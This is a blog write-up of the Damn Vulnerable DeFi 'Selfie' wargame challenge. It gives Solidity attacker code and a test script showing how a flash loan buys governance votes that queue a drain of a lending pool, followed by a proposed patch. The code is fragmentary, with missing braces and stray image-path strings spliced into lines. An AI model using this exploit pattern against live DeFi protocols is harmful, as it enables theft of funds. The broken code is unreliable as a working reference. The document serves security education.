Damn Vulnerable DeFi - Selfie


A new cool lending pool has launched! It’s now offering flash loans of DVT tokens.

Wow, and it even includes a really fancy governance mechanism to control it.

What could go wrong, right ?

You start with no DVT tokens in balance, and the pool has1.5 million. Your objective: take them all.


This exploit involves two contracts. On the one hand, we have SelfiePool. It’s a flash loaning contract with an additional function to drain all funds, and drainAllFunds is guarded behind a modifier. The only caller that can drain funds is the governance contract.

On the otherhand we have the governance contract, SimpleGovernance. As we shall see, perhaps it’s a little too simple! Performing a governance action is a simple process: if we have enough votes then we can queue an action. After a fixed amount of time the action is executable by anybody.Let’s take out a flash loan so we can accumulate enough votes to queue an action. Once the action is queued no one can stop us! They just stare in dismay as the clock ticks down to the moment we execute the action and drain the funds…

The steps are

  1. Take out a flash loan of the governance token
  2. Queue an action to call drainAllFunds
  3. Twiddle our thumbs while we wait
  4. Execute the action
contract SelfieAttacker {
    SimpleGovernance private simpleGovernance;
    SelfiePool private selfiePool;
    DamnValuableTokenSnapshot private dvtSnapshot;
    address private attacker;
    uint256actionId;

    function attackStep1(address _selfiePool, address _simpleGovernance, address _dvtSnapshot) external {
        simpleGovernance = SimpleGovernance(_simpleGovernance);
        selfiePool = SelfiePool(_selfiePool);
        dvtSnapshot = DamnValuableTokenSnapshot(_dvtSnapshot);
        attacker = msg.sender;

    function attackStep2() external {

    function receiveTokens(address token, uint256 amount) external {
        actionId = simpleGovernance.queueAction(
            abi.encodeWithSelector(selfiePool.drainAllFunds.selector, attacker),
        dvtSnapshot.transfer(address(selfiePool), amount);

We execute attackStep1 first to take out the flash loan and queue anaction to drain all the funds. After some time has elapsed we can execute attackStep2.

it('Exploit', async function () {
    const SelfieAttackerFactory = await ethers.getContractFactory('SelfieAttacker', deployer);
    const selfieAttacker = awaitSelfieAttackerFactory.deploy();
    await selfieAttacker.connect(attacker).attackStep1(
    await ethers.provider.send("evm_increaseTime", [2 * 24 * 60 * 60]);
    await selfieAttacker.connect(attacker).attackStep2();

Patched Contract

There isn’t an easy way to patch this contract. On-chain governance is hard! There are manypossibilities, but one option could be to drain the funds to a trusted address. In this case the attacker would still be able to drain the funds, but not capture them.

Let’s pretend that 0x72F0Fc10630af02d1a935fA6BD1B4EE89b46A083 is a Gnosis Safe under the control of trusted signers. We could hardcode this address as the receiver.

contract SelfiePoolV2 is ReentrancyGuard {

    using Address for address;

    ERC20Snapshot public token;
    SimpleGovernance public governance;

    event FundsDrained(address indexed receiver, uint256 amount);

    modifier onlyGovernance() {
        require(msg.sender == address(governance), "Only governance can execute this action");

    constructor(address tokenAddress, address governanceAddress) {
        token = ERC20Snapshot(tokenAddress);
        governance = SimpleGovernance(governanceAddress);

    function flashLoan(uint256 borrowAmount) external nonReentrant {
        uint256 balanceBefore =token.balanceOf(address(this));
        require(balanceBefore >= borrowAmount, "Not enough tokens in pool");token.transfer(msg.sender, borrowAmount);
        require(msg.sender.isContract(), "Sender must be a deployed contract");
        uint256 balanceAfter = token.balanceOf(address(this));

        require(balanceAfter >= balanceBefore, "Flash loan hasn't been paid back");

    function drainAllFunds(address) external onlyGovernance {
        uint256 amount =token.balanceOf(address(this));token.transfer(0x72F0Fc10630af02d1a935fA6BD1B4EE89b46A083, amount);
        emit FundsDrained(0x72F0Fc10630af02d1a935fA6BD1B4EE89b46A083, amount);
Written on June 12, 2022